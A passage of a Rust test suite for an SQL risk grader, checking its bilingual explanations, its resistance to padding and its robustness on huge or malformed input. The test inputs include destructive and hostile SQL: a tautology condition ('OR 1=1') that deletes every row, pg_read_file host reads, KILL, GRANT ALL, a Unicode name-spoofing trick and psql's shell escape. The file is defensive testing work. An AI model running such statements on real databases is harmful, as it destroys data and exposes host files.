        ("UPDATE shop.t SET a = 1", "Changes every row of shop.t.", "修改表 shop.t 的所有行。", "UPDATE shop.t"),
        (
            "DELETE FROM users WHERE id = 1 OR 1=1",
            "Deletes every row of users, because its condition always holds.",
            "删除表 users 的所有行,因为条件恒为真。",
            "id = 1 OR 1=1",
        ),
        (
            "DELETE FROM users WHERE id = 1",
            "Deletes some rows of users.",
            "删除表 users 的部分行。",
            "DELETE FROM users",
        ),
        ("INSERT INTO \"my t\" VALUES (1)", "Adds rows to my t.", "向表 my t 添加行。", "INSERT INTO \"my t\""),
        (
            "DROP TABLE IF EXISTS a, b CASCADE",
            "Drops the table a, b with everything in it.",
            "删除表 a, b 及其全部数据。",
            "DROP TABLE IF EXISTS a, b",
        ),
        ("drop view v", "Drops the view v.", "删除视图 v。", "drop view v"),
        ("TRUNCATE TABLE t", "Empties the table t.", "清空表 t。", "TRUNCATE TABLE t"),
        ("ALTER TABLE t ADD a int, DROP COLUMN b", "Drops the column b of t.", "从表 t 中移除 b。", "DROP COLUMN b"),
        ("CREATE USER bob", "Creates the account bob.", "创建用户 bob。", "CREATE USER bob"),
        (
            "GRANT ALL ON db.* TO bob",
            "Gives bob wide rights on db.*.",
            "授予 bob 对 db.* 的广泛权限。",
            "GRANT ALL ON db.* TO bob",
        ),
        (
            "SELECT 1; SELECT pg_read_file('x')",
            "Reads a file on the database's host by pg_read_file.",
            "通过 pg_read_file 读取数据库主机上的文件。",
            "pg_read_file",
        ),
        ("SELECT 'é'; KILL 7", "Ends a session or a query of somebody: 7.", "终止他人的会话或查询: 7。", "KILL 7"),
        (
            "WITH x AS (DELETE FROM t RETURNING 1)\nSELECT 1",
            "Deletes every row of t.",
            "删除表 t 的所有行。",
            "DELETE FROM t",
        ),
        ("-- é\n/* ü */ DELETE\n FROM t", "Deletes every row of t.", "删除表 t 的所有行。", "DELETE\n FROM t"),
    ];
    for (text, en, zh, marked) in table {
        let found = grade(text, Dialect::Generic);
        let one = found.first().unwrap();
        assert_eq!((one.why.en.as_str(), one.why.zh.as_str()), (en, zh), "{text}");
        assert_eq!(text.get(one.span.clone()), Some(marked), "{text}");
        let effect = one.effect.as_ref().unwrap();
        assert!(effect.en.starts_with(char::is_lowercase) && !effect.en.ends_with('.'), "{effect:?}");
        assert_eq!(format!("{}。", effect.zh), zh);
    }
    let found = grade("SELECT 'open", Dialect::Postgres);
    assert_eq!(found[0].why.en, "A quote or a comment is not closed.");
    assert_eq!((found[0].effect.clone(), found[0].span.clone()), (None, 7..12));
}

#[test]
fn names_cannot_pass_for_something_else() {
    let found = grade("DROP TABLE \"a\u{202E}b\n. Nothing is dropped!\"", Dialect::Postgres);
    assert_eq!(found[0].why.en, "Drops the table a?b?. Nothing is dropped? with everything in it.");
    let found = grade(&format!("DROP TABLE {}", "x".repeat(1000)), Dialect::Postgres);
    assert_eq!(found[0].why.en, format!("Drops the table {}… with everything in it.", "x".repeat(80)));
}

/// Each of these would take a deep stack or long without a bound; ending at all, on a small stack, is the test.
#[test]
fn hostile_texts_come_to_an_end() {
    // Whole, and so short that they are parsed.
    for size in [64 << 10, 15 << 10] {
        let check = move || assert_ends(size);
        std::thread::Builder::new().stack_size(2 << 20).spawn(check).unwrap().join().unwrap();
    }
}

#[test]
fn too_many_conditions_are_high() {
    let found = grade(&"DELETE FROM t WHERE a=1;".repeat(2_500), Dialect::Generic);
    assert!(found.iter().any(|one| (one.label, one.level) == ("oversized", HIGH)));
}

/// Grades texts of a size that have as much of one thing as goes in.
fn assert_ends(size: usize) {
    let fill = |piece: &str| piece.repeat(size / piece.len());
    let table = [
        (format!("SELECT {}", fill("(")), MEDIUM),
        (format!("SELECT 1{}", fill("+1")), LOW),
        (format!("SELECT {}1", fill("NOT ")), LOW),
        (format!("SELECT 1{}", fill("::int")), LOW),
        (format!("SELECT 1{}", fill("[1]")), LOW),
        (format!("SELECT a{}", fill(".a")), LOW),
        (format!("SELECT 1{}", fill(" UNION SELECT 1")), LOW),
        (format!("DELETE FROM t WHERE a = 1{}", fill(" OR a = 1")), MEDIUM),
        (format!("DELETE FROM t WHERE {}", fill("(a=1 AND (b=2 OR ")), MEDIUM),
        (format!("INSERT INTO t VALUES (1){}", fill(",(1)")), MEDIUM),
        (fill("SELECT 1;"), LOW),
        (fill("SELECT 1 FROM FROM;"), LOW),
        (fill("DELETE FROM t "), HIGH),
        (fill("DELETE FROM t WHERE a=1;"), MEDIUM),
        (fill("DELETE FROM t WHERE ("), HIGH),
        (fill("UPDATE "), MEDIUM),
        (fill("DROP TABLE t;"), HIGH),
        (fill("DROP "), HIGH),
        (fill("MERGE "), MEDIUM),
        (fill("GRANT "), MEDIUM),
        (fill("BEGIN "), LOW),
        (fill("PREPARE x AS "), MEDIUM),
        (fill("EXEC('"), HIGH),
        (fill("DO $$"), MEDIUM),
        (fill("f("), MEDIUM),
        (fill("SELECT app.f("), MEDIUM),
        (fill("$"), MEDIUM),
        (fill("$a"), MEDIUM),
        (fill("/*"), MEDIUM),
        (fill("'"), LOW),
        (fill("\\"), MEDIUM),
        (fill("\n\\!"), HIGH),
        (fill("WITH a AS ("), MEDIUM),
        (fill("CASE WHEN "), MEDIUM),
        (fill("EXPLAIN "), LOW),
        (fill("a,"), MEDIUM),
        (fill("\n"), LOW),
        (fill("é"), MEDIUM),
    ];
    for (text, at_least) in table {
        for dialect in [Dialect::Generic, Dialect::Clickhouse] {
            let found = grade(&text, dialect);
            assert!(level(&found) >= at_least, "{:?} {:?}", level(&found), text.get(..40));
            assert!(found.len() <= FOUND_AT_MOST);
            looks_like_sql(&text);
        }
    }
}

#[test]
fn padding_does_not_hide_a_condition() {
    let long = " OR a = 1".repeat(300);
    for text in [
        format!("DELETE FROM t WHERE a = 1{long} OR 1=1"),
        format!("UPDATE t SET b = 2 WHERE 1=1{long}"),
        format!("{}DELETE FROM t WHERE 1=1", "SELECT 1;".repeat(4_000)),
        format!("{}DELETE FROM t WHERE 1=1", "SELECT 1 FROM FROM FROM;".repeat(1_500)),
    ] {
        let found = grade(&text, Dialect::Generic);
        assert!(found.iter().any(|one| one.label == "sql_where_always_true"), "{:?}", text.get(..40));
    }
    let found = grade(&format!("DELETE FROM t WHERE a = 1{long}"), Dialect::Generic);
    assert_eq!(level(&found), MEDIUM, "{found:?}");
}

#[test]
fn a_long_text_is_never_low() {
    let found = grade(&format!("SELECT '{}'", "x".repeat(PARSED_AT_MOST)), Dialect::Generic);
    assert_eq!((found[0].label, found[0].level), ("oversized", MEDIUM));
    let found = grade(&format!("{}DROP TABLE t", "SELECT 1;".repeat(10_000)), Dialect::Generic);
    assert!(found.iter().any(|one| one.label == "sql_drop"));
}

fn dialect() -> impl Strategy<Value = Dialect> {
    prop::sample::select(vec![
        Dialect::Generic,
        Dialect::Sqlite,
        Dialect::Postgres,
        Dialect::Mysql,
        Dialect::Mssql,
        Dialect::Oracle,
        Dialect::Clickhouse,
        Dialect::Bigquery,
        Dialect::Hive,
        Dialect::Snowflake,
        Dialect::Duckdb,
    ])
}

fn are_in_text(text: &str, found: &[Found]) -> bool {
    found.iter().all(|one| text.get(one.span.clone()).is_some())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn never_panics(text in any::<String>(), dialect in dialect()) {
        let found = grade(&text, dialect);
        prop_assert!(are_in_text(&text, &found), "{:?}", found);
        looks_like_sql(&text);
    }

    #[test]
    fn never_panics_on_what_resembles_sql(
        words in prop::collection::vec(
            prop::sample::select(vec![
                "SELECT", "DELETE", "FROM", "UPDATE", "SET", "WHERE", "INSERT INTO", "VALUES", "t", "a", "1", "=", "1=1", "(", ")", ",",
                ";", "'", "\"", "`", "[", "]", "--", "/*", "/*!", "*/", "#", "\n", "\\", "$$", "DROP", "TABLE", "ALTER", "COLUMN", "OR",
                "AND", "NOT", "é", ".", "@", "EXEC", "DO", "WITH", "AS", "EXPLAIN", "ANALYZE", "GRANT", "TO", "ON", "MERGE", "USING", "IN",
                "LIKE", "'%'", "BEGIN", "END", "COPY", "PROGRAM", "GO", "delimiter //", "q'[", "E'", "CASE", "WHEN", "THEN", "*", "|", "CREATE",
            ]),
            0..30,
        ),
        glue in prop::sample::select(vec!["", " ", "\n"]),
        dialect in dialect(),
    ) {
        let text = words.join(glue);
        let found = grade(&text, dialect);
        prop_assert!(are_in_text(&text, &found), "{:?}", found);
        looks_like_sql(&text);
    }

    #[test]
    fn what_follows_is_never_hidden(before in "[a-zA-Z0-9 ._=<>,+*]{0,30}", at in 0..5_usize, dialect in dialect()) {
        let statement = ["DROP TABLE t", "DELETE FROM t", "UPDATE t SET a = 1", "TRUNCATE TABLE t", "WITH x AS (DELETE FROM t RETURNING 1) SELECT 1"][at];
        let text = format!("{before};\n{statement}");
        // A line that the client carries out takes all of itself.
        prop_assert_eq!(level(&grade(&text, dialect)), HIGH, "{:?}", text);
    }

    #[test]
    fn a_condition_is_never_more_than_it_is(column in "c[a-z]{1,8}", value in 0..1000_u32) {
        let text = format!("DELETE FROM t WHERE {column} = {value}");
        prop_assert_eq!(level(&grade(&text, Dialect::Generic)), MEDIUM, "{:?}", text);
        let text = format!("DELETE FROM t WHERE {column} = {value} OR {value} = {value}");
        prop_assert_eq!(level(&grade(&text, Dialect::Generic)), HIGH, "{:?}", text);
    }
}
